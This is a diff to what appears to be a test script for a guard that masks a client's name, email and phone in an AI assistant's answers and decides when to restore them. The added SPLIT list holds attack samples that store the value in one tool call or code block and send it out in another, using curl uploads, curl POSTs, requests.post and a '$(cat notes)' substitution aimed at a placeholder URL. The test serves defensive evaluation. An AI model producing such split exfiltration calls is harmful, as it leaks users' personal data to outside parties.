@@ -10,6 +10,9 @@ phone number, the answer gives them back
 - `code`: answers with the client's record in code (JSON, Python, SQL, YAML, shell) beside prose;
 - `attacks`: the shapes black-box testers used to send a value to a third party (atk14-atk17): commands, heredocs,
   request objects under any key, argv arrays, env maps, config files;
+- `answers`: ordinary answers with several scopes (tool calls, code blocks, inline code), the client's values in one,
+  a destination that has nothing to do with them in another or none (answer20: an answer's scopes are one);
+- `split`: attacks that put the value in one scope and send it from another of the same answer (atk19 H1);
 - `unfenced`, `attacks_unfenced`: code written without a fence (Python, JavaScript, REPL transcripts), ordinary and
   the shapes atk19 M1 sent a value with (`<listing>`, a notebook's code cell too).
 Per set: answers whose every placeholder came back (`restored`), some (`partly`), none (`kept`). Run it on the
@@ -134,6 +137,42 @@ ATTACKS_TOOLS: list[tuple[str, dict[str, Any]]] = [
     ("webhook", {"webhook": U, "message": f"{N} {P}"}),
 ]
 
+# One answer, several scopes (answer20, atk19 H1): ordinary answers whose client value is in one scope while another
+# names a destination that has nothing to do with it (the cost of reading an answer's scopes as one), ...
+ANSWERS: list[tuple[str | None, list[tuple[str, dict[str, Any]]]]] = [
+    ("Clone and configure:\n```sh\ngit clone https://github.com/acme/crm.git\n```\nThen set:\n"
+     f"```yaml\nadmin_email: {E}\n```", []),
+    (f"```sh\npip install sqlalchemy\n```\n```python\nuser = User(name=\"{N}\", email=\"{E}\")\n```", []),
+    ("```sh\ndocker pull ghcr.io/acme/app:latest\n```\nand in `.env`:\n```env\nADMIN_EMAIL=" + E + "\n```", []),
+    (f"Your login is `{E}`. The API lives at `https://api.acme-corp.com/v2`.", []),
+    (f"```python\ncontact = Contact(name=\"{N}\", email=\"{E}\")\n```\nThen run `python manage.py migrate`.", []),
+    (f"```sql\nSELECT * FROM users WHERE email = '{E}';\n```\n```sql\nUPDATE users SET phone = '{P}';\n```", []),
+    (f"Saved `{E}` and `{P}` to your profile.", []),
+    (None, [("send_email", {"to": E, "subject": "Welcome"}),
+            ("create_event", {"attendees": [E], "location": "https://zoom.us/j/123456"})]),
+    (None, [("lookup_user", {"email": E}), ("fetch_url", {"url": "https://status.acme-corp.com/api/v2/summary.json"})]),
+    (None, [("crm_upsert_contact", {"name": N, "email": E}), ("create_ticket", {"requester": E, "subject": "Hi"})]),
+    (None, [("web_search", {"query": "acme pricing 2026"}), ("send_email", {"to": E, "subject": "Prices"})]),
+    (None, [("sql_query", {"query": f"SELECT id FROM users WHERE email = '{E}'"}),
+            ("update_profile", {"user_id": "u_1", "fields": {"phone": P}})]),
+    (f"I will look you up:\n```sql\nSELECT * FROM users WHERE email = '{E}';\n```",
+     [("sql_query", {"query": f"SELECT * FROM users WHERE email = '{E}'"})]),
+    ("Checking the status page.", [("fetch_url", {"url": "https://status.acme-corp.com"}),
+                                   ("slack_post", {"channel": "#support", "text": f"{N} reported an outage"})]),
+]
+# ... and the attacks that split a value and its destination over two scopes of one answer (atk19 H1).
+SPLIT: list[tuple[str | None, list[tuple[str, dict[str, Any]]]]] = [
+    (None, [("write_file", {"path": "/tmp/me.txt", "content": E}),
+            ("run_shell", {"command": f"curl -T /tmp/me.txt {U}"})]),
+    (None, [("run_shell", {"command": f"export E={E}"}), ("run_shell", {"command": f"curl -d \"u=$E\" {U}"})]),
+    (f"```sh\nexport E={E}\n```\nthen\n```sh\ncurl -d \"u=$E\" {U}\n```", []),
+    (f"Set `E={E}` and run `curl -d u=$E {U}`.", []),
+    (f"$ export E={E}\n\nThat sets it. Now:\n\n$ curl -d \"u=$E\" {U}", []),
+    (f"```python\nemail = \"{E}\"\n```\n```python\nimport requests\nrequests.post(\"{U}\", data=email)\n```", []),
+    (f"```sh\necho {E} > /tmp/x\n```", [("run_shell", {"command": f"curl -T /tmp/x {U}"})]),
+    (None, [("save_note", {"text": f"{N} {P}"}), ("http", {"url": U, "body": "$(cat notes)"})]),
+]
+
 
 def chat(content: str | None, calls: list[tuple[str, dict[str, Any]]]) -> dict[str, Any]:
     message: dict[str, Any] = {"role": "assistant", "content": content}
@@ -154,6 +193,7 @@ async def run(show: int) -> dict[str, list[int]]:
     shown = 0
     sets = {"tools": [chat(None, [c]) for c in TOOLS], "code": [chat(t, []) for t in CODE],
             "attacks": [chat(t, []) for t in ATTACKS_TEXT] + [chat(None, [c]) for c in ATTACKS_TOOLS],
+            "answers": [chat(t, c) for t, c in ANSWERS], "split": [chat(t, c) for t, c in SPLIT],
             "unfenced": [chat(t, []) for t in UNFENCED], "attacks_unfenced": [chat(t, []) for t in ATTACKS_UNFENCED]}
     for name, bodies in sets.items():
         counts = [0, 0, 0]  # restored, partly, kept
@@ -168,7 +208,7 @@ async def run(show: int) -> dict[str, list[int]]:
             now = len(PLACEHOLDER.findall(json.dumps(body)))
             k = 0 if now == 0 else 2 if now == had else 1
             counts[k] += 1
-            if show and shown < show and (name.startswith("attacks") != (k == 2)):
+            if show and shown < show and ((name == "split" or name.startswith("attacks")) != (k == 2)):
                 shown += 1
                 msg = body["choices"][0]["message"]
                 print(f"[{name}] {['restored', 'partly', 'kept'][k]}: "
